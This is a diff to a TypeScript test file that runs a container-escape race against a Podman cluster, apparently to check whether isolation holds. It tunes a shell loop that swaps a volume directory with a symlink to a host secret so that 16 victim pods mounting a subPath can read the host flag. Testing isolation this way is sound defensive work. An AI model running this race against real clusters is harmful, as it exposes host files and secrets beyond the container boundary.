@@ -21,7 +21,7 @@ async function subPathRace(cluster: PodmanCluster): Promise<void> {
     ...{ name: "swapper", image: IMAGE, imagePullPolicy: "Never", volumeMounts: [volume] },
     command: ["sh", "-c", SWAP.replace("SECRET", secret)],
   };
-  const victims = Array.from({ length: 8 }, (_, i) => ({
+  const victims = Array.from({ length: 16 }, (_, i) => ({
     ...{ name: `victim-${i}`, image: IMAGE, imagePullPolicy: "Never" },
     volumeMounts: [{ name: "v", mountPath: "/m", subPath: "x" }],
     command: ["sh", "-c", "cat /m/flag > /dev/termination-log 2>/dev/null; touch /m/by-pod"],
@@ -49,9 +49,10 @@ async function subPathRace(cluster: PodmanCluster): Promise<void> {
   await Deno.remove(secret, { recursive: true });
 }
 
-/** `/v/x` is in turn a folder and a link to the host. */
+/** `/v/x` is in turn a folder and a link to the host, each for some milliseconds. */
 const SWAP = `mkdir /v/x; ln -s SECRET /v/l
-while :; do mv -T /v/x /v/k; mv -T /v/l /v/x; mv -T /v/x /v/l; mv -T /v/k /v/x; done`;
+to() { mv -T $1 /v/x || { rmdir /v/x; mv -T $1 /v/x; }; busybox usleep 7000; mv -T /v/x $1; }
+while :; do mv -T /v/x /v/k; to /v/l; to /v/k; mv -T /v/k /v/x; done 2>/dev/null`;
 
 async function hostPaths(cluster: PodmanCluster): Promise<void> {
   const socket = cluster.podman.socketPath;
